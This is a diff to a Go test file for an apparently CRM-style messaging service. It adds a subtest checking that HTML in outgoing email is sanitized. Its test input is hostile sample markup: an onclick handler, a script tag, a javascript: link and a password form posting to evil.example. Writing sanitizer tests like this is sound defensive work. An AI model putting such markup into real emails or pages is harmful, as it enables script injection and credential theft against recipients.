@@ -182,6 +182,7 @@ func TestSendMessageGates(t *testing.T) {
 	leadC := e.createLead(t, owner, map[string]any{"name": "Chetan", "phone": "98765 43211"}).str("id")
 	leadD := e.createLead(t, owner, map[string]any{"name": "Devi", "phone": "98765 43212", "email": "devi@example.com"}).str("id")
 	ctx := context.Background()
+	e.verifiedSender(t, owner)
 
 	// No WhatsApp number yet.
 	problemCode(t, e.send(t, owner, leadA, textMsg("hello")), 409, "no_active_integration")
@@ -415,6 +416,27 @@ func TestSendMessageGates(t *testing.T) {
 		}
 	})
 
+	t.Run("email html is sanitized when accepted", func(t *testing.T) {
+		html := `<p onclick="steal()">Your <b>brochure</b><script>alert(1)</script></p>` +
+			`<a href="javascript:alert(1)">open</a><a href="https://example.com/b">brochure</a>` +
+			`<form action="https://evil.example/c"><input name="password"></form><img src="https://track.example/p.gif">`
+		r := e.send(t, owner, leadB, map[string]any{"channel": "email", "client_message_id": cid(), "subject": "Brochure",
+			"text": "Plain <b>text</b> stays as written.", "html": html})
+		expect(t, r, 202)
+		m, err := e.store.GetMessage(ctx, owner.OrgID, leadB, r.str("id"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var p map[string]string
+		if err := json.Unmarshal([]byte(m.Payload), &p); err != nil {
+			t.Fatal(err)
+		}
+		want := `<p>Your <b>brochure</b></p>open<a href="https://example.com/b" rel="nofollow noreferrer noopener" target="_blank">brochure</a>`
+		if p["html"] != want || p["text"] != "Plain <b>text</b> stays as written." || m.Text != p["text"] {
+			t.Fatalf("stored email %s, text %q", m.Payload, m.Text)
+		}
+	})
+
 	t.Run("access", func(t *testing.T) {
 		problemCode(t, e.send(t, viewer, leadA, textMsg("hi")), 403, "forbidden")
 		problemCode(t, e.send(t, agent, leadC, textMsg("hi")), 404, "not_found")
@@ -487,6 +509,7 @@ func TestConversationHistory(t *testing.T) {
 	e.connect(t, owner)
 	leadID := e.createLead(t, owner, map[string]any{"name": "Asha", "phone": "98765 43210", "email": "asha@example.com", "assignee_id": agent.UserID}).str("id")
 	ctx := context.Background()
+	e.verifiedSender(t, owner)
 
 	base := time.Now().Add(-2 * time.Hour).Truncate(time.Second)
 	in1 := e.inbound(t, owner.OrgID, leadID, "Hi, is the flat available?", base, nil)
